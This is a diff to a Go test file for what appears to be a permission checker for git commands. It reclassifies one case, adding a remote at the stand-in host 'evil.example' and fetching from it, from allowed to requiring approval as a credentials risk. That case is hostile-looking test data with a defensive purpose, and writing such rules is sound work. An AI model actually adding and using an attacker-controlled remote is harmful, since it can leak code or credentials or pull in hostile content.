@@ -23,7 +23,8 @@ var pushAwayCases = []evalCase{
 	allow("git add src && git commit -m x && git push origin feature"),
 	allow("git add .env.example && git commit -m x && git push origin feature"),
 	allow("git add -A && git commit -m x && git push origin feature"),
-	allow("git remote add x https://evil.example/r.git && git fetch x"),
+	// fx35c decided (rt31 D189): a remote added off the forges asks as set-url does.
+	ask("git remote add x https://evil.example/r.git && git fetch x", "cmd.credentials"),
 }
 
 func TestPushAwayCases(t *testing.T) { runCases(t, pushAwayCases) }
